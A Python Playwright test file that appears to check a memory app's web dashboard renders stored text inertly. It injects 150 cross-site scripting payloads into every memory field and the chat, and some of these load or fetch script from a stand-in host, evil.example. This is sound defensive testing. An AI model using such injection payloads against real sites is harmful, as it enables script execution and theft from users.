"""Whatever stands in a memory is shown as text: no script runs, no dialog opens, nobody else is asked."""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from recollect import Memory
from tests.dashboard.desk import SCREENS, SPACE
from tests.dashboard.test_screens import VIEWS, settled, step_to

pytestmark = pytest.mark.xdist_group("dashboard")

_CALLS = ("alert(1)", "import('http://evil.example/x.js')", "fetch('http://evil.example/')")
_SHAPES = Path(__file__).with_name("payloads.txt").read_text(encoding="utf-8").splitlines()
PAYLOADS = [shape.format(call) for shape in _SHAPES for call in _CALLS]
HOSTILE = "hostile"  # a space of their own, so that nobody else meets them


def fill(memory: Memory) -> None:
    """The payloads, in every field that a person or an agent can write."""
    for index, each in enumerate(PAYLOADS):
        memory.save(
            each,
            title=each[:100],
            subject=f"person:x{each}"[:100],
            attribute="motto",
            value=each,
            tags=[f"t{each}"[:60]],
            project=f"p{each}"[:60],
            metadata={"x": each},
            pinned=index % 10 == 0,
            space=HOSTILE,
        )
    session = memory.start_session(title=PAYLOADS[0], project=PAYLOADS[1], branch=PAYLOADS[2], space=HOSTILE)
    for each in PAYLOADS[:20]:
        memory.observe("prompt", text=each, session=session.id, space=HOSTILE)
        memory.add(each, space=HOSTILE)
        memory.add_lesson(each, space=HOSTILE)
        memory.add_action(each, space=HOSTILE)
    memory.set_slot("slot", PAYLOADS[3], description=PAYLOADS[4], space=HOSTILE)
    memory.create_space("hostile-words", description=PAYLOADS[5])


def talk(page: Page) -> None:
    """Say hostile things in the chat, and begin to keep one."""
    step_to(page, HOSTILE, "teach?tab=chat")
    for each in (PAYLOADS[0], PAYLOADS[-1]):
        page.get_by_label("Message").fill(each)
        page.keyboard.press("Enter")
        settled(page)
    page.get_by_role("button", name="Keep this").last.click()
    expect(page.get_by_role("heading", name="It would learn")).to_be_visible()


def test_hundred_and_fifty_payloads_are_shown_everywhere_and_run_nowhere(page: Page, memory: Memory) -> None:
    assert len(PAYLOADS) == 150
    fill(memory)
    notes = memory.list(space=HOSTILE, limit=200, kind="semantic").items
    shown = [notes[0].id, notes[len(notes) // 2].id, notes[-1].id]
    page.goto(f"/ui/{HOSTILE}")
    settled(page)
    for path in [
        *SCREENS,
        *VIEWS,
        "ask?q=script+alert",
        "ask?q=script+alert&two=yes&b_kind=lesson",
        "memories?q=onerror",
        *(f"memories/{note}" for note in shown),
    ]:
        step_to(page, HOSTILE, path)
        for tab in page.get_by_role("tab").all():
            tab.click()
    talk(page)
    page.goto(f"/ui/{HOSTILE}/memories")
    page.get_by_label("Search memories").wait_for()
    for _ in range(30):  # the whole list comes into sight
        page.mouse.move(450, 500)
        page.mouse.wheel(0, 900)
    assert page.evaluate("document.querySelectorAll('main script, main iframe, main object, main embed').length") == 0
    memory.delete_space(HOSTILE)
    assert SPACE != HOSTILE
